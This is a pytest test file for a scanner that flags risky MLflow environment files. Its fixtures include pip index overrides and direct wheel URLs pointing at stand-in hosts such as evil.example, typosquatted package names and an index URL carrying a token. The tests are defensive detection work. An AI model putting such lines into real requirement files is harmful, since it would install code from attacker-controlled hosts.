"""Environment files (requirements, conda, python_env): real files scanned through the public scan()."""

from __future__ import annotations

import pytest

from mlflow_plugin.scanner.api import scan
from mlflow_plugin.scanner.environment import POPULAR, normalize, typosquat_of
from mlflow_plugin.scanner.report import ScanReport, Severity


def env(report: ScanReport) -> list[tuple[str, str, str]]:
    return sorted((str(f.severity), f.rule, f.evidence) for f in report.findings if f.rule.startswith("env."))


def scan_file(tmp_path, name: str, text: str) -> ScanReport:
    p = tmp_path / name
    p.write_text(text)
    return scan(str(p))


@pytest.mark.parametrize(
    "name", ["requirements.txt", "requirements-dev.txt", "conda.yaml", "environment.yml", "python_env.yaml"]
)
def test_environment_files_are_detected(tmp_path, name):
    r = scan_file(tmp_path, name, "name: x\n" if name.endswith(("yaml", "yml")) else "numpy==1.26.4\n")
    assert [f.format for f in r.files] == ["requirements"]


@pytest.mark.parametrize(
    "line",
    [
        "git+https://github.com/someone/pkg.git@main",
        "pkg @ git+ssh://git@github.com/someone/pkg.git",
        "https://evil.example/pkg-1.0.tar.gz",
        "http://evil.example/pkg-1.0-py3-none-any.whl",
        "mypkg @ https://evil.example/mypkg-1.0-py3-none-any.whl",
        "file:///tmp/pkg",
        "./local_pkg",
        "../wheels/pkg-1.0-py3-none-any.whl",
        "/opt/pkgs/thing",
        "-e .",
        "-e git+https://github.com/someone/pkg.git#egg=pkg",
        "https://pypi.org.evil.example/pkg.whl",
    ],
)
def test_direct_urls_and_local_paths_are_high(tmp_path, line):
    r = scan_file(tmp_path, "requirements.txt", f"numpy==1.26.4\n{line}\n")
    hits = [f for f in r.findings if f.rule == "env.direct-url"]
    assert len(hits) == 1 and hits[0].severity == Severity.HIGH, env(r)
    assert "requirements.txt:2:" in hits[0].message and "fix:" in hits[0].message


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://evil.example/simple",
        "--extra-index-url https://evil.example/simple",
        "--extra-index-url=https://evil.example/simple",
        "-i https://evil.example/simple",
        "-ihttps://evil.example/simple",
        "-f https://evil.example/wheels",
        "--find-links ./wheels",
        "--trusted-host evil.example",
        "--extra-index-url https://pypi.org@evil.example/simple",
    ],
)
def test_index_overrides_are_high(tmp_path, line):
    r = scan_file(tmp_path, "requirements.txt", f"{line}\nnumpy==1.26.4\n")
    hits = [f for f in r.findings if f.rule == "env.index-override"]
    assert len(hits) == 1 and hits[0].severity == Severity.HIGH, env(r)


def test_official_hosts_are_not_reported(tmp_path):
    r = scan_file(
        tmp_path,
        "requirements.txt",
        "--extra-index-url https://download.pytorch.org/whl/cpu\n"
        "torch @ https://download.pytorch.org/whl/cpu/torch-2.3.0%2Bcpu-cp311-cp311-linux_x86_64.whl\n"
        "numpy==1.26.4\n",
    )
    assert env(r) == []


@pytest.mark.parametrize(
    ("name", "intended"),
    [
        ("torchh", "torch"),
        ("tourch", "torch"),
        ("nunpy", "numpy"),
        ("numpyy", "numpy"),
        ("pandsa", "pandas"),
        ("sckit-learn", "scikit-learn"),
        ("scikit_lean", "scikit-learn"),
        ("reqeusts", "requests"),
        ("tensorfow", "tensorflow"),
        ("xgbost", "xgboost"),
        ("lightgmb", "lightgbm"),
        ("transformer", "transformers"),
        ("mlfow", "mlflow"),
        ("Matplotlb", "matplotlib"),
    ],
)
def test_typosquats_are_high_and_name_the_intended_package(tmp_path, name, intended):
    r = scan_file(tmp_path, "requirements.txt", f"{name}==1.0\n")
    hits = [f for f in r.findings if f.rule == "env.typosquat"]
    assert len(hits) == 1 and hits[0].severity == Severity.HIGH, env(r)
    assert f"`{intended}`" in hits[0].message


def test_popular_names_and_their_spellings_are_not_typosquats():
    assert len(POPULAR) >= 150
    for n in ("scikit-learn", "Scikit_Learn", "scikit.learn", "torch", "PyYAML", "opencv-python", "scapy"):
        assert typosquat_of(n) is None, n
    assert normalize("Scikit__Learn") == "scikit-learn"
    # no popular name is flagged as a squat of another popular name
    assert [p for p in POPULAR if typosquat_of(p)] == []


def test_unpinned_requirements_are_one_info_finding(tmp_path):
    r = scan_file(tmp_path, "requirements.txt", "numpy\npandas>=2\nscikit-learn~=1.5\nmlflow==2.16.0\n")
    assert env(r) == [("info", "env.unpinned", "numpy, pandas, scikit-learn")]


def test_comments_continuations_and_options(tmp_path):
    r = scan_file(
        tmp_path,
        "requirements.txt",
        "# a comment mentioning git+https://x\n"
        "numpy==1.26.4  # pinned\n"
        "pandas==2.2.2 \\\n"
        "    --hash=sha256:abc\n"
        "-r other.txt\n"
        "--pre\n"
        "--no-binary :all:\n",
    )
    assert env(r) == []


def test_conda_yaml_channels_pip_section_and_conda_deps(tmp_path):
    r = scan_file(
        tmp_path,
        "conda.yaml",
        "name: mlflow-env\n"
        "channels:\n- conda-forge\n- defaults\n- evil-channel\n- https://conda.evil.example/chan\n"
        "dependencies:\n- python=3.11.7\n- pip<=24.0\n- shady::numpy=1.26\n- pytorch::pytorch=2.3\n"
        "- nunpy=1.0\n"
        "- pip:\n  - mlflow==2.16.0\n  - --extra-index-url https://evil.example/simple\n"
        "  - git+https://github.com/x/y\n  - xgbost==1.7\n",
    )
    assert env(r) == [
        ("high", "env.direct-url", "git+https://github.com/x/y"),
        ("high", "env.index-override", "--extra-index-url https://evil.example/simple"),
        ("high", "env.typosquat", "nunpy=1.0"),
        ("high", "env.typosquat", "xgbost==1.7"),
        ("medium", "env.conda-channel", "evil-channel"),
        ("medium", "env.conda-channel", "https://conda.evil.example/chan"),
        ("medium", "env.conda-channel", "shady::numpy=1.26"),
    ]


def test_python_env_yaml(tmp_path):
    r = scan_file(
        tmp_path,
        "python_env.yaml",
        "python: 3.11.7\nbuild_dependencies:\n- pip==24.0\n- setuptools==70.0.0\n- wheell==0.43.0\n"
        "dependencies:\n- -r requirements.txt\n- --index-url https://evil.example/simple\n",
    )
    assert env(r) == [
        ("high", "env.index-override", "--index-url https://evil.example/simple"),
        ("high", "env.typosquat", "wheell==0.43.0"),
    ]


def test_invalid_yaml_is_low(tmp_path):
    r = scan_file(tmp_path, "conda.yaml", "channels: [\n  - : :\n")
    assert [(str(f.severity), f.rule) for f in r.findings] == [("low", "env.unparsable")]


def test_secrets_in_environment_files_are_still_found(tmp_path):
    r = scan_file(
        tmp_path,
        "requirements.txt",
        "--extra-index-url https://__token__:pypi-AgEIcHlwaS5vcmcCJGZhZTk5YzQ0@pkgs.evil.example/simple\n",
    )
    rules = {f.rule for f in r.findings}
    assert "env.index-override" in rules and any(x.startswith("secret.") for x in rules), rules


def test_files_mlflow_writes_give_no_serious_finding(tmp_path):
    mlflow = pytest.importorskip("mlflow")
    src = tmp_path / "model.py"
    src.write_text(
        "import mlflow\n\n\nclass M(mlflow.pyfunc.PythonModel):\n"
        "    def predict(self, context, model_input):\n        return model_input\n\n\n"
        "mlflow.models.set_model(M())\n"
    )
    out = tmp_path / "model"
    mlflow.pyfunc.save_model(str(out), python_model=str(src), pip_requirements=["numpy==1.26.4"])
    r = scan(str(out))
    assert [f for f in r.findings if f.severity >= Severity.MEDIUM] == []
    # the attacker adds an index and a squatted package to the saved requirements
    req = out / "requirements.txt"
    req.write_text(req.read_text() + "\n--extra-index-url https://evil.example/simple\nnumpyy==1.0\n")
    rules = {f.rule for f in scan(str(out)).findings if f.severity == Severity.HIGH}
    assert rules == {"env.index-override", "env.typosquat"}
